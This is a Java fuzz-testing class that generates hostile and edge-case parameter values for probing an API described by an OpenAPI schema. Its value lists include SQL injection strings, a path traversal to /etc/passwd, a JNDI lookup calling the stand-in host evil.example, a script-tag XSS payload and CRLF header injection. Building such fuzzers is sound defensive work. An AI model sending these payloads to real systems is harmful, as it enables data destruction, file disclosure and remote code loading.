package io.rolebook.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import io.rolebook.support.OpenApi;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** Values of parameters that no well-meaning client sends, or that stand at the edge of what one may send. */
final class HostileText {
    /** None of them may look like what {@link Verdict} takes for private. */
    static final List<String> ANYWHERE = List.of(
            "",
            " ",
            "%",
            "_",
            "*",
            "'",
            "\"",
            "''; drop table role; --",
            "' or '1'='1",
            "1 union all values (null)",
            "\\",
            "\\'",
            ".",
            "..",
            "../../../etc/passwd",
            "%2e%2e%2f",
            "//evil.example/",
            ".*",
            "(a+)+$",
            "[",
            "(",
            "a:b | c & !d <-> e:*",
            "$1",
            "{{7*7}}",
            "${jndi:ldap://evil.example/x}",
            "#{x}",
            "%s%n%d",
            "<script>alert(1)</script>",
            "x\r\nSet-Cookie: a=b",
            "\n",
            "\t",
            "\u0000",
            "a\u0000b",
            "\u0007",
            "\u007f",
            "\u0085",
            "\u202eright to left\u202c",
            "\u05de\u05d5\u05d3\u05dc",
            "e\u0301",
            "\u00e9",
            "\u1e9e\u0130\u0131",
            "\ud83d\ude00",
            "\u200b",
            "\ufeff",
            "\ufffe",
            "\uffff",
            "-1",
            "0",
            "-0",
            "+1",
            "1 ",
            "01",
            "1.5",
            "1e3",
            "1e400",
            "0x10",
            "NaN",
            "Infinity",
            "\u0663",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "99999999999999999999999999999999",
            "true",
            "null",
            "undefined",
            "[]",
            "{}",
            "x:y",
            ":",
            ":x",
            "x:",
            "onet:15-2051.00",
            "nosuch:15-2051.00",
            "a,b",
            ",",
            ",,",
            ";",
            "a;b=c",
            "a&b=c",
            "#",
            "?",
            "2026-02-30",
            "2026-13-01",
            "0000-00-00",
            "0000-01-01",
            "9999-12-31",
            "+999999999-12-31",
            "-999999999-01-01",
            "2026-01-01T25:00:00Z",
            "2026-01-01T00:00:00+18:00",
            "-1000000000-01-01T00:00:00Z",
            "+1000000000-12-31T23:59:59.999999999Z",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "1-1-1-1-1",
            "machine-learning-engineer",
            "MACHINE-LEARNING-ENGINEER",
            "python",
            "senior",
            "US-CO",
            "x".repeat(300),
            "x".repeat(7_000),
            "-".repeat(3_000),
            "\u00e9".repeat(1_000));

    /** As they are put into an address, where nobody encodes them. */
    private static final List<String> RAW = List.of(
            "%",
            "%z",
            "%zz",
            "%00",
            "%0a",
            "%ff",
            "%c0%ae",
            "%ed%a0%80",
            "%f5%80%80%80",
            "%2F",
            "..%2f..",
            "..",
            ".",
            "a/b",
            "<",
            "|",
            "\\",
            "^",
            "`",
            "{",
            "[",
            "\"",
            "\u00e9",
            "a;b",
            "+",
            "&",
            "=",
            "%26",
            "x".repeat(9_000));

    private final Random random;

    HostileText(Random random) {
        this.random = random;
    }

    static String encoded(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    String any() {
        return pick(ANYWHERE);
    }

    /** Encoded or, in one of four cases, raw. */
    String forAddress(JsonNode schema) {
        return random.nextInt(4) == 0 ? pick(RAW) : encoded(near(schema));
    }

    /** Hostile, or at the edge of what the schema allows. */
    String near(JsonNode schema) {
        List<String> edges = edges(OpenApi.resolve(schema));
        return edges.isEmpty() || random.nextInt(3) == 0 ? any() : pick(edges);
    }

    private List<String> edges(JsonNode schema) {
        List<String> edges = new ArrayList<>();
        for (JsonNode alternative : List.of(schema.path("allOf"), schema.path("anyOf"))) {
            alternative.forEach(part -> edges.addAll(edges(OpenApi.resolve(part))));
        }
        if (schema.has("items")) {
            edges.addAll(edges(OpenApi.resolve(schema.path("items"))));
        }
        schema.path("enum").forEach(value -> {
            edges.add(value.asText());
            edges.add(value.asText().toUpperCase(Locale.ROOT) + " ");
        });
        for (String edge : List.of("minimum", "maximum", "exclusiveMinimum")) {
            if (schema.path(edge).isNumber()) {
                BigDecimal value = schema.path(edge).decimalValue();
                edges.addAll(List.of(
                        value.toPlainString(),
                        value.subtract(BigDecimal.ONE).toPlainString(),
                        value.add(BigDecimal.ONE).toPlainString(),
                        value.add(new BigDecimal("0.001")).toPlainString()));
            }
        }
        return edges;
    }

    <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
